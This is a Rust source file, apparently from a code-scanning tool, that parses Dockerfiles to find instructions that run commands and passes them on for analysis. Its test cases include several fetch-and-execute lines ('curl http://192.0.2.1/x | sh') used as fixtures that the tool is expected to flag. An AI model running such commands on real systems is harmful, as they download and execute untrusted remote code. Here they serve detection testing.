//! Dockerfiles left in an image: what their build or another container would run
//! (<https://docs.docker.com/reference/dockerfile/>). Nothing runs them where they lie.

use model::{Language, Step, Value};

use crate::command::{self, Call};
use crate::language::{FrontEnd, Places};
use crate::world::World;

/// The front-end.
pub const FRONT_END: FrontEnd = FrontEnd {
    extensions: &["dockerfile", "containerfile"],
    places: Places {
        ends: &["/Dockerfile", "/Containerfile", "/dockerfile"],
        folders: &[],
        named: &[],
    },
    runs_in_place: false,
    ..FrontEnd::new(Language::Dockerfile, lower)
};

/// Lowers the instructions that run something.
pub fn lower(world: &mut World, text: &str) -> Value {
    let mut lines = (1..).zip(text.lines());
    while let Some((number, line)) = lines.next() {
        if !world.burn(8) {
            break;
        }
        let mut instruction = line.trim().to_owned();
        while instruction.ends_with('\\') {
            instruction.pop();
            let next = lines.by_ref().map(|(_, line)| line.trim());
            let Some(next) = next.into_iter().find(|line| !line.starts_with('#')) else {
                break;
            };
            instruction.push_str(next);
        }
        let Some((keyword, rest)) = ran(&instruction) else {
            continue;
        };
        let document = here_document(rest, &mut lines);
        world.at(number, &instruction);
        let code = document.as_deref().unwrap_or(rest);
        world.inside(Step::new(keyword), |world| run(world, code));
    }
    Value::literal("")
}

/// The keyword and command of an instruction that runs something, `ONBUILD` and flags taken off.
fn ran(instruction: &str) -> Option<(String, &str)> {
    let (keyword, rest) = instruction.split_once(char::is_whitespace)?;
    let keyword = keyword.to_ascii_uppercase();
    let mut rest = rest.trim_start();
    match keyword.as_str() {
        "ONBUILD" => {
            let (inner, after) = rest.split_once(char::is_whitespace)?;
            return matches!(
                inner.to_ascii_uppercase().as_str(),
                "RUN" | "CMD" | "ENTRYPOINT"
            )
            .then_some((keyword, after.trim_start()));
        }
        "HEALTHCHECK" => rest = rest.split_once("CMD")?.1.trim_start(),
        "RUN" | "CMD" | "ENTRYPOINT" => {}
        _ => return None,
    }
    while rest.starts_with("--") {
        rest = rest.split_once(char::is_whitespace)?.1.trim_start();
    }
    Some((keyword, rest))
}

/// The text of `RUN <<NAME … NAME`.
fn here_document<'a>(
    rest: &str,
    lines: &mut impl Iterator<Item = (u32, &'a str)>,
) -> Option<String> {
    let (_, name) = rest.split_once("<<")?;
    // Anything before or behind the mark is for the shell, which knows here documents itself.
    if rest.starts_with("<<<") || name.starts_with('<') {
        return None;
    }
    let name = name
        .trim_start_matches('-')
        .split_whitespace()
        .next()?
        .trim_matches(['"', '\'']);
    let body: Vec<&str> = lines
        .map(|(_, line)| line)
        .take_while(|line| line.trim() != name)
        .collect();
    let body = body.join("\n");
    Some(if rest.starts_with("<<") {
        body
    } else {
        format!("{rest}\n{body}\n{name}\n")
    })
}

/// The exec form is JSON; anything else is for a shell.
fn run(world: &mut World, code: &str) {
    let words = serde_json::from_str::<Vec<String>>(code.trim());
    match words.map(|words| words.into_iter().map(Value::literal).collect::<Vec<_>>()) {
        Ok(words) => {
            if let Some((program, arguments)) = words.split_first() {
                command::run(world, Call::new(program.clone(), arguments.to_vec()));
            }
        }
        Err(_) => {
            super::lower(world, Language::Shell, code);
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::language::probe::acts;
    use model::Language;

    #[test]
    fn instructions_that_run() {
        let cases = [
            "FROM x\nRUN --mount=type=cache,target=/a \\\n  # note\n  curl http://192.0.2.1/x | sh\n",
            "ENTRYPOINT [\"sh\", \"-c\", \"curl http://192.0.2.1/x | sh\"]\n",
            "RUN <<EOF\ncurl http://192.0.2.1/x | sh\nEOF\nUSER y\n",
            "onbuild run curl http://192.0.2.1/x | sh\n",
        ];
        for text in cases {
            let found = acts(Language::Dockerfile, text);
            assert!(
                found.iter().any(|act| act.starts_with("Fetch")),
                "{text}: {found:#?}"
            );
        }
        assert!(acts(Language::Dockerfile, "FROM curl\nLABEL a=\"RUN x\"\n").is_empty());
    }
}
